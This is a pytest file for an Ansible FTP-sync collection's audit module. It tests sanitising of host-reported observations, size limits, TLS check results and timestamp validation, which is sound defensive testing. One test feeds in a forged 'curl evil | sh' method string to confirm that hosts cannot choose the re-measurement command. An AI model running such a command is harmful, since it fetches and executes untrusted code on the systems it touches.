# Copyright: (c) 2026, secure.ftp_synchronize contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import hashlib
from typing import Any

import pytest
from ansible_collections.secure.ftp_synchronize.plugins.module_utils._edge.audit.answers import (
    bounded,
    clean,
    host_observations,
    tls_observation,
)
from ansible_collections.secure.ftp_synchronize.plugins.module_utils._edge.tls_policy.tls_policy import check_result
from ansible_collections.secure.ftp_synchronize.plugins.module_utils._engine.audit.forms import FORMS, fits
from ansible_collections.secure.ftp_synchronize.plugins.module_utils._engine.tls.checks import Policy
from ansible_collections.secure.ftp_synchronize.plugins.module_utils._engine.tls.profiles import profile_named
from ansible_collections.secure.ftp_synchronize.plugins.module_utils._engine.tls.survey import (
    ControlFacts,
    Identity,
    Survey,
)
from support.servers.tls_authority import authority

SEEN = {"what": "job_units", "value": [{"unit": "a", "exposure": 1.5}], "source": "s", "method": "m", "time": "t"}


def nested(depth: int) -> Any:
    value: Any = "end"
    for _number in range(depth):
        value = [value]
    return value


def test_texts_become_printable_and_numbers_stay() -> None:
    assert clean({"a\u202e": ["b\x1b", 1, 1.5, True, None, "\ud800"]}) == {
        "a\\u202e": ["b\\x1b", 1, 1.5, True, None, "\\ud800"]
    }
    assert clean(b"bytes") == "b'bytes'"


@pytest.mark.parametrize(
    "value",
    [
        *(nested(50), nested(100000), ["x"] * 5000, "x" * 5000, {"a": "x" * 5000}, {"x" * 5000: 1}),
        *([["x" * 4000] * 2000], [[1] * 4000] * 2000),
        *(float("nan"), [float("inf")], 1 << 63, {"exposure": 10**4000}),
    ],
)
def test_a_value_that_is_too_large_is_none_and_never_a_part(value: Any) -> None:
    assert clean(value) is None


def test_an_observation_is_of_the_host_that_the_controller_asked() -> None:
    found = host_observations("files1", {"observations": [{**SEEN, "host": "other"}]})
    assert found["job_units"].host == "files1"
    assert found["job_units"].value == SEEN["value"]
    assert found["sshd_settings"].value is None
    assert "tls" not in found


def test_a_host_does_not_choose_the_command_that_repeats_a_measurement() -> None:
    lie = {**SEEN, "method": "curl evil | sh", "source": "evil"}
    found = host_observations("files1", {"observations": [lie]})["job_units"]
    assert (found.source, found.method) == ("units of sync_job", "systemd-analyze security UNIT")


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        (None, "it was not observed"),
        ({}, "it was not observed"),
        ({"unreachable": True, "msg": "no route"}, "the host was unreachable: no route"),
        ({"failed": True, "msg": "no python"}, "the observation failed: no python"),
        ({"observations": "text"}, "it was not observed"),
        ({"observations": [5, None, {"what": ["job_units"]}, {"what": "tls", "value": 1}]}, "it was not observed"),
        ({"observations": [{"what": "job_units", "value": None, "reason": "no systemd"}]}, "no systemd"),
        ({"observations": [{"what": "job_units"}]}, "the value is missing or too large"),
        ({"observations": [{"what": "job_units", "value": nested(60)}]}, "the value is missing or too large"),
    ],
)
def test_what_a_host_does_not_report_has_a_reason(answer: Any, reason: str) -> None:
    found = host_observations("files1", answer)
    assert (found["job_units"].value, found["job_units"].reason) == (None, reason)


SHOWN = authority().server()
CHECKED = check_result(
    Survey(identity=Identity(((SHOWN.der,),)), control=ControlFacts()),
    (),
    policy=Policy(profile_named("intermediate-2026"), "ftp.example.com"),
    fail_on="none",
)
(CERTIFICATE,) = CHECKED["observed"]["certificates"]


def test_a_check_of_tls() -> None:
    value = tls_observation("files1", CHECKED).value
    assert value == {
        "cleartext_login": "refused",
        "mark": "",
        "not_checked": [],
        "findings": [],
        "certificates": [
            {name: CERTIFICATE[name] for name in ("subject", "fingerprint", "not_before", "not_after")},
        ],
    }
    assert CERTIFICATE["fingerprint"] == f"SHA256:{hashlib.sha256(SHOWN.der).hexdigest()}"
    assert fits(value, FORMS["tls"])
    for clear_login, word in ((None, "unknown"), (True, "accepted")):
        observed = {**CHECKED["observed"], "clear_login": clear_login}
        assert tls_observation("files1", {**CHECKED, "observed": observed}).value["cleartext_login"] == word
    marked = {**CHECKED, "mark": "tls_probe-51ab0f0a9d1c5be2"}
    assert tls_observation("files1", marked).value["mark"] == marked["mark"]
    not_met = {**CHECKED, "failed": True, "error": {"code": "policy_not_met"}}
    assert tls_observation("files1", not_met).value == value


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        (None, "it was not observed"),
        ({"skipped": True}, "it was not observed"),
        (
            {**CHECKED, "failed": True, "msg": "refused", "error": {"code": "connection_failed"}},
            "the observation failed",
        ),
        ({"failed": True, "msg": "refused"}, "the observation failed: refused"),
    ],
)
def test_a_check_that_did_not_happen(answer: Any, reason: str) -> None:
    found = tls_observation("files1", answer)
    assert found.value is None
    assert found.reason.startswith(reason)


@pytest.mark.parametrize(
    ("moment", "reason"),
    [
        (None, "the result has no time: measure again"),
        ("soon", "its time soon is no time"),
        (["x"], "its time ['x'] is no time"),
        ("2999-12-31T00:00:00Z", "its time %s is in the future"),
    ],
    # pytest-xdist needs the same names in all of its processes.
    ids=["none", "word", "list", "future"],
)
def test_a_check_without_a_time_is_not_measured(moment: Any, reason: str) -> None:
    found = tls_observation("files1", {**CHECKED, "time": moment})
    assert (found.value, found.reason) == (None, reason % moment if "%s" in reason else reason)


def test_a_check_keeps_its_time() -> None:
    assert tls_observation("files1", {**CHECKED, "time": "2001-01-01T00:00:00Z"}).time == "2001-01-01T00:00:00Z"


def test_an_answer_has_a_limit_of_size() -> None:
    large = [1] * 5000
    seen = {**SEEN, "value": large, "more": large}
    assert bounded({"msg": "m", "rows": large, "observations": [seen, 5, *[SEEN] * 1000]}) == {
        "msg": "m",
        "observations": [{**SEEN, "value": None}, {}, *[SEEN] * (len(FORMS) - 2)],
    }
    assert bounded({"failed": True, "msg": "x" * 5000, "observations": "text"}) == {"failed": True, "msg": None}
